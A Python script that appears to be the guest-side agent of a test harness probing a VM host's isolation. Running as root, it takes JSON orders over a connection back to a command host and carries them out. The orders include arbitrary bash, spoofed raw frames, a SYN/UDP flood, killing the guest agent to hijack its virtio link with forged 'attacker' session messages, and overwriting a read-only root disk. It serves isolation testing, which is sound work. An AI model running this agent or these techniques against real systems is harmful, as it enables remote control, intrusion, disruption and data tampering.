#!/usr/bin/python3
# Runs as root in a VM and does what it is told, line by line, over one connection to the port that the host serves to
# guests: the only way in that every rule leaves open. Each answer goes the way of the frames before it, so when it is
# read, the host has dealt with those.

import fcntl
import glob
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

COMMAND_ADDRESS = (sys.argv[1], int(sys.argv[2]))


def raw():
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind(("eth0", 3))
    return wire


def send_frames(frames, times=1):
    with raw() as wire:
        for _ in range(times):
            for frame in frames:
                wire.send(bytes.fromhex(frame))
    return {}


def send_for(frames, seconds):
    """Answers at once and goes on sending: for when the way of the answer is about to be cut."""

    def go_on():
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            send_frames(frames)
            time.sleep(0.1)

    threading.Thread(target=go_on, daemon=True).start()
    return {}


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def flood(frame, count, protocol, first=0, seconds=60):
    """Sends one frame again and again, each time from another port (offset 34 of the frame). UDP needs no checksum."""
    frame = bytearray.fromhex(frame)
    sent = 0
    end = time.monotonic() + seconds
    with raw() as wire:
        while sent < count and time.monotonic() < end:
            struct.pack_into("!H", frame, 34, 1024 + (first + sent) % 60000)
            if protocol == 6:
                struct.pack_into("!H", frame, 50, 0)
                segment = bytes(frame[34:])
                segment += b"\0" * (len(segment) % 2)
                pseudo = bytes(frame[26:34]) + struct.pack("!BBH", 0, 6, len(frame) - 34)
                struct.pack_into("!H", frame, 50, checksum(pseudo + segment))
            wire.send(frame)
            sent += 1
    return {"sent": sent}


def fetch(host, port, seconds=3):
    try:
        with socket.create_connection((host, port), seconds) as there:
            there.settimeout(seconds)
            there.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return {"text": there.recv(4096).decode(errors="replace")}
    except OSError as error:
        return {"error": str(error)}


def ask_arp(frame, target, seconds=1.5):
    """Sends the frame and waits for anybody's ARP answer that speaks for the target."""
    wanted = socket.inet_aton(target)
    with raw() as wire:
        wire.settimeout(0.2)
        wire.send(bytes.fromhex(frame))
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                got = wire.recv(2048)
            except socket.timeout:
                continue
            if got[12:14] == b"\x08\x06" and got[20:22] == b"\0\2" and got[28:32] == wanted:
                return {"answered": got[22:28].hex()}
    return {"answered": ""}


def run(script, seconds=120):
    try:
        done = subprocess.run(
            ["/bin/bash", "-c", script], capture_output=True, timeout=seconds, stdin=subprocess.DEVNULL
        )
        return {"code": done.returncode, "out": done.stdout.decode(errors="replace")[-4000:],
                "err": done.stderr.decode(errors="replace")[-1000:]}
    except subprocess.TimeoutExpired:
        return {"code": -1, "out": "", "err": "it took too long"}


def serve(port, text):
    """A server of the VM's own, for others to try to reach."""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", port))
    listener.listen()

    def answer():
        while True:
            there, _ = listener.accept()
            try:
                there.sendall(text.encode())
                there.close()
            except OSError:
                pass

    threading.Thread(target=answer, daemon=True).start()
    return {}


def link_port():
    for name in glob.glob("/sys/class/virtio-ports/*/name"):
        if open(name).read().strip() == "bellows":
            return "/dev/" + name.split("/")[-2]
    raise OSError("no guest link")


def take_link(seconds=30):
    """The guest agent holds its port; root ends it, and is quicker than its restart."""
    port = link_port()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for path in glob.glob("/proc/[0-9]*/exe"):
            try:
                if os.readlink(path).endswith("/bellows-guest"):
                    os.kill(int(path.split("/")[2]), signal.SIGKILL)
            except OSError:
                pass
        try:
            return os.open(port, os.O_RDWR | os.O_NONBLOCK)
        except OSError:
            time.sleep(0.005)
    raise OSError("the guest agent does not let go of its port")


held_link = None


def hold_link():
    """Before the host joins the link: the guest agent would hear the host's first words instead."""
    global held_link
    held_link = take_link()
    return {}


def write_link(chunk, times, seconds=8, session=False):
    """Writes to the guest link as the agent's own messages would go, and holds it until the time is over."""
    port = held_link
    written = 0
    try:
        waiting = b"\n"
        if session:
            waiting += json.dumps({"resumed": "attacker", "of": await_resume(port), "r": 0, "b": 1}).encode() + b"\n"
        one = chunk.encode()
        # All of it at once would be a third of the guest's memory, and takes a slow guest longer than it has.
        several = max(1, 65536 // len(one))
        left = times
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if not waiting:
                if left <= 0:
                    break
                waiting = one * min(several, left)
                left -= several
            try:
                sent = os.write(port, waiting[:32768])
                waiting = waiting[sent:]
                written += sent
            except BlockingIOError:
                time.sleep(0.01)
            except OSError:
                break
        # What the driver holds in its queue is lost when the port is closed.
        time.sleep(max(0, end - time.monotonic()))
    finally:
        os.close(port)
    return {"written": written}


def await_resume(port, seconds=10):
    """The host opens each talk by asking where the guest stands; its session is in that line."""
    heard = b""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            heard += os.read(port, 65536)
        except BlockingIOError:
            time.sleep(0.02)
        for line in heard.split(b"\n"):
            if line.startswith(b'{"resume"'):
                try:
                    return json.loads(line)["resume"]
                except ValueError:
                    pass
    return ""


def write_root_disk(text, clear_flag):
    """Overwrites the image's block device; with clear_flag it first asks the kernel to forget that it is read-only."""
    try:
        disk = os.open("/dev/vda", os.O_RDONLY)
        if clear_flag:
            fcntl.ioctl(disk, 0x125D, struct.pack("i", 0))  # BLKROSET
        os.close(disk)
        disk = os.open("/dev/vda", os.O_RDWR | os.O_SYNC)
        # Behind everything that the file system uses: the machine is to go on.
        size = os.lseek(disk, 0, os.SEEK_END)
        os.pwrite(disk, text.encode().ljust(512, b"\0"), size - 512)
        os.fsync(disk)
        os.close(disk)
        return {"wrote": True}
    except OSError as error:
        return {"wrote": False, "error": str(error)}


def read_raw(path, megabytes):
    """How fast a disk is read past the guest's cache, in bytes per second."""
    size = megabytes * 2**20
    start = time.monotonic()
    done = subprocess.run(["dd", "if=" + path, "of=/dev/null", "bs=1M", "iflag=direct", "count=%d" % megabytes],
                          capture_output=True)
    return {"rate": size / (time.monotonic() - start), "code": done.returncode}


def find_text(text, paths):
    """Looks for a text on whole disks."""
    wanted = text.encode()
    found = []
    for path in paths:
        try:
            with open(path, "rb", buffering=0) as disk:
                before = b""
                while chunk := disk.read(4 * 2**20):
                    if wanted in before + chunk:
                        found.append(path)
                        break
                    before = chunk[-len(wanted) :]
        except OSError:
            pass
    return {"found": found}


deeds = {deed.__name__: deed for deed in (send_frames, send_for, flood, fetch, ask_arp, run, serve, hold_link, write_link,
                                          write_root_disk, read_raw, find_text)}


def obey():
    with socket.create_connection(COMMAND_ADDRESS, 5) as host:
        host.settimeout(None)
        lines = host.makefile("rw")
        print(json.dumps({"ready": os.uname().nodename}), file=lines, flush=True)
        for line in lines:
            order = json.loads(line)
            try:
                answer = deeds[order.pop("do")](**order)
            except Exception as error:  # an attack that fails is an answer
                answer = {"failed": repr(error)}
            print(json.dumps(answer), file=lines, flush=True)


while True:
    try:
        obey()
    except OSError:
        time.sleep(0.2)
